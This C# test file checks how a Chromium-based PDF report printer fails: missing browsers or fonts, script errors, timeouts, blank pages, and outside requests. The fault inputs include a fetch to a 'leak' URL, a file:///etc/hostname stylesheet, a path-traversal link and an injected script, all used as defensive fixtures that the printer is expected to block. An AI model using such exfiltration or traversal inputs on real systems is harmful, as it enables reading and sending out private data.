using System.Diagnostics;
using ServiceAnalytics.Analytics;
using ServiceAnalytics.Reports.Html;
using ServiceAnalytics.Reports.Printing;

namespace ServiceAnalytics.Reports.Tests.Printing;

/// <summary>Printing that can't succeed says so, says why, and says what to do; it never hands over half a report.</summary>
public sealed class PrintingFailureTests
{
    private static readonly string Page = "<!DOCTYPE html><html lang=en><title>t</title><body>text";

    [Fact]
    public async Task Without_a_browser_one_is_told_how_to_get_one()
    {
        var trouble = await Failure(Page, new PrinterSettings { SearchPath = "/nowhere", KnownBrowsers = ["/nowhere/chromium"] });
        Assert.Equal(PrintFailure.NoBrowser, trouble.Failure);
        Assert.Contains("apt-get install chromium", trouble.Message);
        Assert.Contains("google-chrome", trouble.Message);
    }

    [Fact]
    public async Task A_browser_named_in_the_settings_that_is_not_there_is_named_in_the_message()
    {
        var trouble = await Failure(Page, new PrinterSettings { BrowserPath = "/opt/none/chrome" });
        Assert.Equal(PrintFailure.NoBrowser, trouble.Failure);
        Assert.Contains("\"/opt/none/chrome\"", trouble.Message);
    }

    [Fact]
    public async Task A_program_that_is_no_browser_ends_with_what_it_said()
    {
        var trouble = await Failure(Page, new PrinterSettings { BrowserPath = "/bin/false" });
        Assert.Equal(PrintFailure.BrowserEnded, trouble.Failure);
        Assert.Contains("name another one in the settings", trouble.Message);
    }

    [Fact]
    public async Task Without_a_fallback_font_one_is_told_how_to_get_one()
    {
        var trouble = await Failure(Page, new PrinterSettings { KnownFallbackFonts = ["/nowhere/font.ttf"] });
        Assert.Equal(PrintFailure.NoFont, trouble.Failure);
        Assert.Contains("apt-get install fonts-droid-fallback", trouble.Message);
    }

    [Fact]
    public async Task Without_the_reports_own_typefaces_nothing_is_printed()
    {
        await using var printer = new ChromiumPdfPrinter(new PrinterSettings(), new ReportAssets("/nowhere"));
        var trouble = await Assert.ThrowsAsync<PrintException>(() => printer.PrintAsync(Page, PrintedGallery.Properties(Language.En)));
        Assert.Equal(PrintFailure.NoFont, trouble.Failure);
        Assert.Contains("inter.css", trouble.Message);
    }

    [Theory]
    [InlineData("<script>window.reportReady = Promise.reject(new Error('chart 3 has no data'))</script>", PrintFailure.ScriptError, "chart 3 has no data")]
    [InlineData("<script>nowhere.toBeFound()</script>", PrintFailure.ScriptError, "nowhere is not defined")]
    [InlineData("<script>console.error('axis is empty')</script>", PrintFailure.ScriptError, "axis is empty")]
    [InlineData("<a href='#lost'>x</a><span data-page-of=lost></span>", PrintFailure.ScriptError, "no page found for lost")]
    [InlineData("<img src='http://203.0.113.7/pixel.png'>", PrintFailure.OutsideRequest, "http://203.0.113.7/pixel.png")]
    [InlineData("<script>fetch('https://example.com/leak?x=1').catch(() => 0)</script>", PrintFailure.OutsideRequest, "https://example.com/leak?x=1")]
    [InlineData("<link rel=stylesheet href='file:///etc/hostname'>", PrintFailure.OutsideRequest, "")]
    [InlineData("<link rel=stylesheet href='missing.css'>", PrintFailure.OutsideRequest, "missing.css")]
    [InlineData("<link rel=stylesheet href='/..%2f..%2fetc/hostname.css'>", PrintFailure.OutsideRequest, "hostname.css")]
    [InlineData("<div style='break-before:page;height:1px'></div><div style='break-before:page;height:1px'></div>", PrintFailure.BlankPage, "Page 2, 3 of 3")]
    public async Task A_page_with_a_fault_is_not_printed(string fault, PrintFailure kind, string said)
    {
        var trouble = await Failure(Page + fault, new PrinterSettings());
        Assert.Equal(kind, trouble.Failure);
        Assert.Contains(said, trouble.Message);
    }

    [Fact]
    public async Task A_page_that_never_gets_ready_is_given_up_in_time_and_the_next_one_is_printed()
    {
        await using var printer = new ChromiumPdfPrinter(new PrinterSettings { TimeLimit = TimeSpan.FromSeconds(4) }, ReportAssets.Default);
        var watch = Stopwatch.StartNew();
        var trouble = await Assert.ThrowsAsync<PrintException>(() =>
            printer.PrintAsync(Page + "<script>window.reportReady = new Promise(() => 0)</script>", PrintedGallery.Properties(Language.En)));
        Assert.Equal(PrintFailure.TimedOut, trouble.Failure);
        Assert.Contains("within 4 s; it stopped while loading fonts and drawing charts", trouble.Message);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(15));

        Assert.Equal(1, (await printer.PrintAsync(Page, PrintedGallery.Properties(Language.En))).PageCount);
    }

    [Fact]
    public async Task The_policy_of_a_real_page_stops_what_a_text_might_try()
    {
        await using var host = new HtmlRendererHost(ReportAssets.Default);
        var html = await host.RenderReportAsync(Gallery.GalleryReport.Contents(Language.En), AssetPlacement.Linked);
        // As if a text had got in unescaped: the policy refuses to run it, and the printer refuses to print.
        var trouble = await Failure(html.Replace("<main>", "<main><script>document.title='ran'</script>"), new PrinterSettings());
        Assert.Equal(PrintFailure.OutsideRequest, trouble.Failure);
        Assert.Contains("Content Security Policy", trouble.Message);
    }

    private static async Task<PrintException> Failure(string html, PrinterSettings settings)
    {
        await using var printer = new ChromiumPdfPrinter(settings, ReportAssets.Default);
        return await Assert.ThrowsAsync<PrintException>(() => printer.PrintAsync(html, PrintedGallery.Properties(Language.En)));
    }
}
